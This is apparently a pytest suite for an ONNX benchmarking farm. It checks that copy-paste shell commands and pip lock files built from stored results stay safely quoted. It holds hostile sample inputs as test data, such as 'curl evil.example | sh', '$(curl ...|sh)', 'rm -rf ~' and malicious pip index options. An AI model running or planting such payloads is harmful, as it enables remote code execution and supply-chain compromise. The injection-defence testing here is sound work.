"""Commands that people copy: written from the cell alone, quoted for a shell, and read back to the very same cell."""

import json
import shlex
from types import SimpleNamespace
from typing import Any

import pytest

from dashboard.views.alert import leading_provider
from farm.contract.blocks import Tolerance
from farm.contract.cells import CellSpec, Recipe, Runtime
from farm.contract.document_cells import Cell
from farm.contract.reports import CheckReport
from farm.rules.cells.commands import bisect_command, diverge_command, plan_command, repeat_command, submit_command
from farm.rules.matrices import matrix
from farm.rules.planning import planner
from farm.rules.reporting.documents import BlockRecord, RunRecord, assemble
from farm.rules.reporting.locks import make_lock
from onnxfarm.commands.bench_options import apply_settings, parse_tolerances, read_matrix
from onnxfarm.commands.feed_options import parse_sizes
from tests.unit.rules.making import make_block, make_check, make_model, make_output, make_reports, make_rounds, plan_of

HOSTILE = "onnxfarm bench model.onnx; curl evil.example | sh #'"


def cell_of(**told: Any) -> Cell:
    """The first cell of a document whose node told this with its checks."""
    block = make_block()
    checks = [CheckReport.model_validate({**make_check(arm.arm).model_dump(), **told}) for arm in block.arms]
    reports = [*make_reports({0: 1.0, 1: 1.2}), *checks]
    return assemble(RunRecord(model=make_model(main="encoder.onnx"), blocks=[BlockRecord(block, reports)])).cells[0]


def spec_of(**options: Any) -> CellSpec:
    """The one cell of a matrix."""
    ((arm,),) = [
        block.arms for block in planner.plan(matrix.parse({"runtime": "1.31.1", **options}), make_model()).blocks
    ]
    return arm.spec


def read_back(command: str) -> CellSpec:
    """The cell that `onnxfarm bench` would measure, by its own reading of the command line."""
    words = shlex.split(command)
    assert words[:3] == ["onnxfarm", "bench", "model.onnx"]
    given = list(zip(words[3::2], words[4::2], strict=True))
    named = {"--ort": "runtime", "--matrix": "", "--shape": "", "--seed": ""}
    axes: dict[str, Any] = {
        named.get(name, name.removeprefix("--")): value for name, value in given if named.get(name, "-")
    }
    one = dict(given)
    axes["shapes"] = parse_sizes([value for name, value in given if name == "--shape"])
    declared = read_matrix(one.get("--matrix"), axes)
    ((arm,),) = [block.arms for block in planner.plan(declared, make_model(), seed=int(one.get("--seed", 0))).blocks]
    return arm.spec


def test_a_node_cannot_choose_the_command_that_a_page_offers_to_copy() -> None:
    cell = cell_of(repeat_command=HOSTILE)
    assert cell.repeat_command.startswith("onnxfarm bench encoder.onnx --ort 1.29.0 --provider CPUExecutionProvider")
    assert "evil" not in cell.model_dump_json()


def test_one_quote_in_a_stored_report_does_not_break_a_run_for_ever() -> None:
    assert cell_of(repeat_command="onnxfarm bench 'model.onnx").status == "done"


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("numpy", "2.4.6\n--extra-index-url https://evil.example/simple"),
        ("--extra-index-url https://evil.example/simple\nnumpy", "2.4.6"),
        ("numpy @ https://evil.example/numpy.whl #", "2.4.6"),
        ("numpy", "2.4.6 --hash=sha256:0"),
        ("numpy", "*"),
        ("numpy", "2.4.6\n"),
        ("-r", "1"),
        ("numpy", "2.4.6; import os"),
    ],
)
def test_a_node_cannot_write_an_option_of_pip_into_a_lock_file(name: str, version: str) -> None:
    cell = cell_of(packages={name: version})
    assert cell.packages == {}
    assert make_lock(cell) == "onnxruntime==1.29.0\n"
    # a document of before, or of another farm
    assert make_lock(cell.model_copy(update={"packages": {name: version}})) == "onnxruntime==1.29.0\n"


def test_a_lock_holds_the_runtime_and_numpy_whatever_else_a_node_says_was_installed() -> None:
    told = {"numpy": "2.4.6", "onnxruntime": "6.6.6", "evil-package": "1.0", "flatbuffers": "25.2"}
    cell = cell_of(packages=told)
    assert cell.packages == told
    assert make_lock(cell) == "numpy==2.4.6\nonnxruntime==1.29.0\n"
    plugin = cell.model_copy(update={"runtime": Runtime.of("onnxruntime-ep-webgpu==0.4.0")})
    assert make_lock(plugin) == "numpy==2.4.6\nonnxruntime==1.31.1\nonnxruntime-ep-webgpu==0.4.0\n"


@pytest.mark.parametrize(
    "runtime", ["evil-package==1.0", "evil-package @ https://evil.example==1", "--pre==1", "onnxruntime"]
)
def test_a_runtime_that_is_no_published_build_is_not_pinned_for_others(runtime: str) -> None:
    text = make_lock(cell_of().model_copy(update={"runtime": Runtime.of(runtime), "packages": {}}))
    assert text.startswith("#")
    assert text.count("\n") == 1
    assert "evil" not in text


@pytest.mark.parametrize(
    "options",
    [
        {},
        {"batch": [8], "threads": [2], "optimization": ["basic"], "concurrency": [4], "opset": [15]},
        {"opset": "max-of-runtime", "precision": "fp16"},
        {"precision": [{"precision": "int8-dynamic", "options": {"per-channel": True, "exclude-nodes": "a b,it's"}}]},
        {"runtime": "onnxruntime-openvino==1.24.1",
         "provider": [{"name": "OpenVINOExecutionProvider", "options": {"device_type": "CPU", "num_streams": "2"}}]},
        {"shapes": [{"sequence": 64}]},
        {"session": [{"name": "other", "spinning": False, "config": {"session.set_denormal_as_zero": "1; rm -rf ~"}}]},
        {"session": [{"name": "x", "execution-mode": "parallel", "inter-op-threads": 2, "memory-pattern": False,
                      "arena": False, "disabled-optimizers": ["ConstantFolding"]}]},
    ],
)  # fmt: skip
def test_the_command_reads_back_to_the_very_same_cell(options: dict[str, Any]) -> None:
    spec = spec_of(**options)
    command = repeat_command(spec, "model.onnx")
    assert read_back(command).digest == spec.digest, command


@pytest.mark.parametrize(
    "name",
    ["$(curl evil.example|sh)", "a,b", "it's", "-x", "two words", "\x1b[201~\x03rm -rf ~\n", "ü", "`id`", "a=b", "a\n"],
)
def test_a_dimension_cannot_be_named_so_that_a_copied_command_does_something_else(name: str) -> None:
    spec = spec_of(shapes=[{"sequence": 4}])
    hostile = spec.model_copy(update={"workload": spec.workload.model_copy(update={"shapes": {name: 4}})})
    command = repeat_command(hostile, "model.onnx")
    assert command.isprintable()
    assert command.isascii()
    words = shlex.split(command)
    assert json.loads(words[words.index("--matrix") + 1])["shapes"] == [{name: 4}]
    assert "--shape" not in words
    assert diverge_command(hostile, "model.onnx") == ""


@pytest.mark.parametrize(
    "name", ["y", "-x", "/head/out:0", "$(curl evil.example|sh)", "a=b", "y\n", "\x1b[201~\x03id\n"]
)
def test_the_command_judges_outputs_as_the_run_did_however_they_are_named(name: str) -> None:
    tolerances = {name: Tolerance(atol=1e-6, rtol=0.25)}
    command = repeat_command(spec_of(), "model.onnx", tolerances=tolerances)
    assert command.isprintable()
    words = shlex.split(command)
    given = dict(zip(words[3::2], words[4::2], strict=True))
    read = parse_tolerances([given["--tolerance"]] if "--tolerance" in given else None)
    assert apply_settings(read_matrix(given.get("--matrix"), {}), tolerance=read).tolerances == tolerances


def test_a_cell_with_wrong_outputs_is_repeated_with_the_tolerance_that_they_broke_and_with_no_other_models() -> None:
    tolerances = {"y": Tolerance(atol=1e-8, rtol=0.0), "of another model": Tolerance()}
    block = make_block().model_copy(update={"tolerances": tolerances})
    told = [make_check(arm.arm, outputs=[make_output(violations=4)]) for arm in block.arms]
    for reports, named in ((told, ["y=1e-08,0.0"]), ([], None)):
        record = BlockRecord(block, [*make_rounds(8, {0: 1.0, 1: 1.2}), *reports])
        words = shlex.split(assemble(RunRecord(model=make_model(), blocks=[record])).cells[0].repeat_command)
        # what was never compared may be any model's
        given = words[words.index("--tolerance") + 1 :] if "--tolerance" in words else None
        assert given == named
        assert ("of another model" in words[-1]) is (named is None)


def test_a_file_named_like_an_option_is_a_file_in_the_command() -> None:
    assert shlex.split(repeat_command(spec_of(), "--help.onnx"))[2] == "./--help.onnx"
    assert shlex.split(diverge_command(spec_of(), "-o.onnx"))[2] == "./-o.onnx"
    assert submit_command("--wait.onnx") == "onnxfarm submit ./--wait.onnx --wait"
    assert submit_command("m.onnx", matrix="matrix.yaml") == "onnxfarm submit m.onnx --matrix matrix.yaml --wait"
    assert plan_command("-m.onnx", matrix="matrix.yaml") == "onnxfarm plan ./-m.onnx --matrix matrix.yaml"


def test_a_release_named_like_a_shell_command_is_one_word_of_a_bisection() -> None:
    words = {"good": "1.29.0; id", "bad": "$(id)", "provider": "cpu"}
    command = bisect_command("m.onnx", **words)
    assert shlex.split(command)[3:] == ["--good", "1.29.0; id", "--bad", "$(id)", "--provider", "cpu"]
    assert "'$(id)'" in command


@pytest.mark.parametrize(
    ("model", "label", "provider"),
    [
        ("x, $(curl evil.example|sh)", "x, $(curl evil.example|sh), OpenVINO, fp32, batch 1", "openvino"),
        ("encoder", "encoder, CUDA, fp32", "cuda"),
        ("encoder", "encoder, $(curl evil.example|sh), fp32", "cpu"),
        ("renamed since", "x, $(curl evil.example|sh), CPU, fp32", "cpu"),
    ],
)
def test_a_model_cannot_be_named_so_that_an_alerts_command_does_something_else(model: str, label: str, provider: str):
    symptom = SimpleNamespace(label=label, kind="slower", size=1.0, resolved_in="")
    alert = SimpleNamespace(leading_symptom=symptom, model=SimpleNamespace(name=model))
    assert leading_provider(alert) == provider


def test_given_inputs_and_calibration_data_are_named_as_the_farm_stores_them() -> None:
    spec = spec_of()
    given = spec.model_copy(update={"workload": spec.workload.model_copy(update={"inputs_sha256": "a" * 64})})
    assert repeat_command(given, "m.onnx").endswith(" --inputs inputs.npz")
    assert "--inputs" not in repeat_command(spec, "m.onnx")
    assert diverge_command(given, "m.onnx").endswith(" --inputs inputs.npz")
    real = spec.model_copy(update={"recipe": Recipe(precision="int8-qdq", options={"calibration-data": "b" * 64})})
    assert repeat_command(real, "m.onnx").endswith(" --calibration calibration.npz")
    drawn = spec.model_copy(update={"recipe": Recipe(precision="int8-qdq", options={"calibration-data": "random"})})
    assert "--calibration" not in repeat_command(drawn, "m.onnx")


def test_another_build_is_named_in_full() -> None:
    spec = spec_of().model_copy(update={"runtime": Runtime(distribution="onnxruntime-gpu", version="1.31.1")})
    assert "--ort onnxruntime-gpu==1.31.1" in repeat_command(spec, "m.onnx")


def test_a_plan_that_refuses_gives_no_command() -> None:
    plan = plan_of({"runtime": "1.31.1", "provider": "openvino"})
    assert plan.refused
    assert assemble(RunRecord(model=make_model(), refused=plan.refused)).cells[0].repeat_command == ""


def test_a_cell_whose_inputs_no_option_says_has_them_in_its_matrix() -> None:
    spec = make_block().arms[0].spec
    odd = spec.workload.model_copy(update={"inputs": {"input ids": "0..99"}})
    assert "input ids" in repeat_command(spec.model_copy(update={"workload": odd}), "model.onnx")
